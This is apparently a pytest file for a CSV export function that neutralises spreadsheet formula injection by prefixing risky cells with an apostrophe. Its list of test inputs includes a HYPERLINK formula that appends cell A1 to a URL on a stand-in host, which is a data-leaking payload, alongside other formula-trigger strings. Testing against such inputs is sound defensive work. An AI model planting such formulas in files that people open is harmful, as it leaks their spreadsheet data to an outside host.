"""A csv file that a spreadsheet opens: names and captions come from data, and must not be computed."""

import csv
import io
import math

import pandas as pd
import pytest

from pipelines.program.csv_text import to_csv

FORMULAS = ['=HYPERLINK("http://a.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\uff1d1"]


def cells(table: pd.DataFrame) -> list[list[str]]:
    return list(csv.reader(io.StringIO(to_csv(table), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_be_computed_is_text(text: str) -> None:
    found = cells(pd.DataFrame({"name": [text, "plain"], text: [1, 2]}))
    shown = "'" + text.replace("\r", "\n")
    assert found == [["name", shown], [shown, "1"], ["plain", "2"]]


def test_a_carriage_return_inside_does_not_end_the_row() -> None:
    assert cells(pd.DataFrame({"reason": ["a\r=1+1\r\nb"], "n": [1]})) == [["reason", "n"], ["a\n=1+1\nb", "1"]]


def test_all_else_stays_as_it_is() -> None:
    """Numbers below 0 are numbers; what has a sign inside is no formula."""
    table = pd.DataFrame({"n": [-1.5, math.nan], "i": [-3, 4], "t": ["lr=0.001, a-b", None], "mixed": [-2, "x@y"]}, index=[7, 3])
    expected = [["n", "i", "t", "mixed"], ["-1.5", "-3", "lr=0.001, a-b", "-2"], ["", "4", "", "x@y"]]
    assert cells(table) == expected
    assert to_csv(table[["n", "i"]]) == table[["n", "i"]].to_csv(index=False)
    assert to_csv(table.iloc[:0]) == table.iloc[:0].to_csv(index=False)
